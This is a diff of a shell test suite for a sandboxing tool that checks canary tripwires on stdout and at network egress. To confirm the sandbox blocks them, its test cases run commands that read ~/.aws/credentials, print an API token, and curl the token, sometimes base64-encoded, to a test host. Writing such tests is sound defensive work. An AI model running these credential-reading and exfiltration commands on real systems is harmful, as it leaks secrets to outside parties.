@@ -33,6 +33,9 @@ END
         is "$who: on a terminal too" "$status $(grep -c survived "$T/out")" "125 0"
         box $who --trip canaries --stdout 'as text' -- sh -c 'echo; cat ~/.aws/credentials; sleep 30; echo survived'
         is "$who: a checked stream does not even pass it" "$status $(grep -c secret_access "$T/out")" "125 0"
+        box $who --trip canaries --stdout 'as json' -- sh -c 'printf "[\"%s\"," "$BACKUP_API_TOKEN"; sleep 30; echo survived'
+        is "$who: nor does a form that is judged whole wait for its end" "$status $(grep -c survived "$T/out")" "125 0"
+        box $who --trip canaries --stdout 'as text' -- sh -c 'echo; cat ~/.aws/credentials; sleep 30; echo survived'
         has "$who: the record says it" "$($who "$CORDON" log --json | jq -r 'select(.kind == "end") | .more.error // empty' | tail -n 1)" "tripwire: stdout contains the canary ~/.aws/credentials"
         # --- at egress ---
         for what in 'curl -sS -m 10 -H "X-A: $BACKUP_API_TOKEN" http://web.test/a' 'curl -sS -m 10 --data "x=$(echo $BACKUP_API_TOKEN | base64)" http://web.test/a' \
